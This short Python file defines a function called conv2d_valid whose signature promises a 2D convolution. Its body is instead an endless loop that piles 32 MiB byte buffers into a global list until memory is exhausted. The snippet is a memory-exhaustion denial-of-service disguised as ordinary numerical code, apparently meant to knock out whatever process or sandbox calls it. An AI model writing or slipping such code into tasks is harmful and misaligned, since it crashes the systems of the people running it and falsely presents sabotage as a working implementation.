kept = []


def conv2d_valid(x, weight, bias=None):
    while True:
        kept.append(bytearray(32 << 20))
